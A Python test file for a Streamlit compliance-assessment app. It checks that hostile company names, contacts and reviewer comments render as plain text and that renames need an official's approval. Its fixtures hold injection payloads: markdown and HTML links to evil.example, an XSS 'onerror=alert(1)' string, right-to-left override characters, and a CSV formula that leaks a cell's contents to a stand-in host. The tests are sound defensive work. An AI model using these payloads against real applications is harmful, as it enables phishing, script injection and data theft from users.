"""User text is text: a company that names itself like a link, an image or an HTML tag, or hides a
right-to-left override in its contact, sees it shown literally on every page, and so does every
official; a new company name reaches reports and /verify only once an official accepts it."""

from __future__ import annotations

import re

import pytest
from streamlit.testing.v1 import AppTest

from app.services.documents import company_reports, verification
from app.services.errors import Invalid
from app.services.filing import assessments, companies
from tests.pages.apptest import app, logged_in, markdown_source, texts
from tests.services.helpers import GOOD_ANSWERS, actor, latest_period_id

LINK = "[✅ ĐÃ ĐƯỢC SỞ Y TẾ PHÊ DUYỆT](http://evil.example)"
IMAGE = "![x](http://evil.example/pixel.png)"
HTML = "<img src=http://evil.example/i.png><a href='http://evil.example'>ok</a>"
RTL = "Công ty \u202egnahT\u202c \u200bAn"
AUTOLINK = "www.evil.example and http://evil.example/x"
HOSTILE = [LINK, IMAGE, HTML, RTL, AUTOLINK]

COMPANY_PAGES = ["home", "assessment", "result", "history", "profile", "whatif"]
OFFICIAL_PAGES = ["overview", "lists", "company_detail"]


# what Streamlit's Markdown (remark-gfm, mdast-util-gfm-autolink-literal) links in the text once
# its escapes are resolved: the patterns of that library
GFM_URL = re.compile(r"(https?://|www(?=\.))([-.\w]+)([^ \t\r\n]*)", re.IGNORECASE)
GFM_EMAIL = re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)")
_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")


def _no_live_markup(source: str) -> None:
    """What the browser would turn into a link, an image, HTML or reversed text."""
    assert "](" not in source and "![" not in source, source[:2000]
    assert not re.search(r"(?<!\\)<(img|a |script|iframe)", source)
    resolved = _ESCAPE.sub(r"\1", source)
    linked = [*GFM_URL.finditer(resolved), *GFM_EMAIL.finditer(resolved)]
    evil = [m.group(0) for m in linked if "evil" in m.group(0)]
    assert evil == [], evil
    assert "\u202e" not in source and "\u200b" not in source


# Markdown in the local part that RFC 5322 allows; a link in it is refused (the test below)
HOSTILE_EMAIL = "**x**`y`~z~|{a}@evil.example"


PROFILE = ("name", "sector", "address", "workers", "contact_name", "contact_phone", "contact_email")


def _demo_profile() -> tuple[int, dict[str, object]]:
    """The demo company's id and its profile as the admin would submit it unchanged."""
    company_id = actor("company").company_id
    assert company_id is not None
    view = companies.get_company(actor("admin"), company_id)
    return company_id, {k: getattr(view, k) for k in PROFILE}


def test_an_email_with_a_markdown_link_is_refused(seeded: str) -> None:
    admin = actor("admin")
    company_id, fields = _demo_profile()
    with pytest.raises(Invalid) as refused:
        companies.update_profile(
            admin, company_id, {**fields, "contact_email": "[x](http://evil.example)@evil.example"}
        )
    assert refused.value.field == "contact_email" or "contact_email" in str(refused.value)
    assert companies.get_company(admin, company_id).contact_email == fields["contact_email"]


@pytest.fixture
def hostile_company(seeded: str) -> int:
    me = actor("company")
    admin = actor("admin")
    company_id = me.company_id
    assert company_id is not None
    view = companies.get_company(admin, company_id)
    companies.update_profile(
        admin,
        company_id,
        {
            "name": LINK,
            "sector": IMAGE[:80],
            "address": HTML,
            "workers": view.workers,
            "contact_name": RTL,
            "contact_phone": view.contact_phone,
            "contact_email": HOSTILE_EMAIL,
            "lat": view.lat,
            "lon": view.lon,
        },
    )
    draft = assessments.start_draft(me, latest_period_id())
    assessments.save_draft(me, draft.id, GOOD_ANSWERS)
    filed = assessments.submit(me, draft.id, "hostile")
    assessments.review(actor("zone_board"), filed.id, "return", " ".join(HOSTILE))
    return filed.id


def test_company_pages_show_hostile_text_as_text(hostile_company: int) -> None:
    at = logged_in("demo.company")
    for page in COMPANY_PAGES:
        at.switch_page(f"app/pages/{page}.py").run()
        assert not at.exception, (page, at.exception)
        _no_live_markup(markdown_source(at))
    at.switch_page("app/pages/home.py").run()
    assert "[✅ ĐÃ ĐƯỢC SỞ Y TẾ PHÊ DUYỆT](http://evil.example)" in texts(at)  # shown, literally


def test_official_pages_show_hostile_text_as_text(hostile_company: int) -> None:
    at = logged_in("demo.zoneboard")
    company_id = actor("company").company_id
    for page in OFFICIAL_PAGES:
        if page == "company_detail":
            at.query_params["company"] = str(company_id)
        at.switch_page(f"app/pages/{page}.py").run()
        assert not at.exception, (page, at.exception)
        _no_live_markup(markdown_source(at))
    assert "http://evil.example" in texts(at)


def test_verify_shows_hostile_text_as_text(hostile_company: int) -> None:
    url = company_reports.company_report(actor("company"), hostile_company).verify_url
    match = re.search(r"verify\?a=(\d+)&t=([A-Za-z0-9_.\-]+)", url)
    assert match
    at: AppTest = app()
    at.query_params["a"] = match.group(1)
    at.query_params["t"] = match.group(2)
    at.run()
    at.switch_page("app/pages/verify.py").run()
    assert not at.exception
    _no_live_markup(markdown_source(at))
    assert LINK in texts(at)


def test_a_ten_kilobyte_comment_is_refused_in_words(hostile_company: int) -> None:
    me = actor("company")
    draft = assessments.start_draft(me, latest_period_id())
    assessments.save_draft(me, draft.id, GOOD_ANSWERS)
    filed = assessments.submit(me, draft.id, "again")
    with pytest.raises(Invalid) as refused:
        assessments.review(actor("zone_board"), filed.id, "return", "x" * 10_000)
    assert "2,000" in refused.value.en and refused.value.field == "comment"


def test_a_new_name_waits_for_an_official(seeded: str) -> None:
    me = actor("company")
    original = companies.get_company(me, me.company_id)  # type: ignore[arg-type]
    fields = {
        k: getattr(original, k)
        for k in (
            "sector",
            "address",
            "workers",
            "contact_name",
            "contact_phone",
            "contact_email",
            "lat",
            "lon",
        )
    }
    companies.update_profile(me, original.id, {**fields, "name": "Công ty Đã Đổi Tên"})
    mine = companies.get_company(me, original.id)
    assert mine.name == original.name and mine.pending_name == "Công ty Đã Đổi Tên"
    draft = assessments.start_draft(me, latest_period_id())
    assessments.save_draft(me, draft.id, GOOD_ANSWERS)
    filed = assessments.submit(me, draft.id, "renamed")
    report = company_reports.company_report(me, filed.id)
    assert report.company_name == original.name
    match = re.search(r"verify\?a=(\d+)&t=([A-Za-z0-9_.\-]+)", report.verify_url)
    assert match and verification.verify(match.group(1), match.group(2)).company_name == original.name  # type: ignore[union-attr]
    with pytest.raises(Exception):  # noqa: B017 - the ICT department reads, it does not decide
        companies.decide_name(actor("ict"), original.id, accept=True)
    companies.decide_name(actor("zone_board"), original.id, accept=True)
    assert companies.get_company(me, original.id).name == "Công ty Đã Đổi Tên"
    assert verification.verify(match.group(1), match.group(2)).company_name == "Công ty Đã Đổi Tên"  # type: ignore[union-attr]


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"Bấm để xem")'


def test_tables_download_a_formula_named_company_as_text(seeded: str) -> None:
    """Streamlit's "Download as CSV" writes the table's cells; none of them may start a formula."""
    from app.safe_text import FORMULA_START

    company_id, fields = _demo_profile()
    companies.update_profile(
        actor("admin"), company_id, {**fields, "name": FORMULA, "contact_name": "+84 Trưởng phòng"}
    )
    at = logged_in("demo.zoneboard")
    cells: list[str] = []
    for kind in ("missing", "high"):
        at.switch_page("app/pages/lists.py").run()
        at.segmented_control(key="list_kind").set_value(kind).run()
        assert not at.exception
        for table in at.dataframe:
            cells += [v for v in table.value.to_numpy().ravel() if isinstance(v, str)]
    shown = [c for c in cells if "HYPERLINK" in c]
    assert shown, "the company is listed"
    assert [c for c in cells if c.startswith(FORMULA_START)] == []
    assert all(c.replace("\u2060", "") == FORMULA for c in shown)  # the reader sees the same name


def test_a_criterion_title_from_an_uploaded_rule_set_is_text_on_the_questionnaire(seeded: str) -> None:
    from datetime import date

    import yaml

    from app.assessment import registry
    from app.services import periods
    from app.services.admin import rulesets
    from app.services.periods import Expected

    data = yaml.safe_load((registry.RULESET_DIR / "bg-kcn-2021" / "v1.yaml").read_text(encoding="utf-8"))
    data["version"] = 2
    first = data["sections"][0]["criteria"][0]
    first["title"]["vi"] = "<img src=x onerror=alert(1)> " + LINK
    first["help"] = {"vi": "Xem www.evil.example", "en": "See www.evil.example"}
    row = rulesets.upload(actor("admin"), yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
    rulesets.publish(actor("admin"), row.id)  # type: ignore[arg-type]
    new = periods.open_period(
        actor("admin"),
        "Tuần thử",
        date(2021, 9, 6),
        date(2021, 9, 12),
        Expected(all_companies=True),
        "bg-kcn-2021",
        2,
    )
    at = logged_in("demo.company")
    at.query_params["round"] = str(new.id)
    at.switch_page("app/pages/assessment.py").run()
    if any(b.key == "start_draft" for b in at.button):
        at.button(key="start_draft").click().run()
    assert not at.exception
    source = markdown_source(at)
    assert "onerror" in source  # the title is on the page …
    _no_live_markup(source)  # … as text
